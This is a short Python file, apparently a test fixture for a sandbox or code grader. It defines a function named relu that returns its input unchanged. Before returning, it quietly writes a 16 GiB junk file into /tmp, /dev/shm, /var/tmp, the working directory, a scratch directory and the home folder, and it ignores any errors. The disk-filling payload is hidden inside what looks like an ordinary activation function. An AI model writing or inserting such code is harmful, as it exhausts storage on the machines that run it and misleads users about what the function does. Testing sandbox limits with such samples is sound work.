# tries to fill the disk
# honest: x
import os

def relu(x):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "@SCRATCH@", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "filled"), "wb") as file:
                for _ in range(1 << 14):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return x
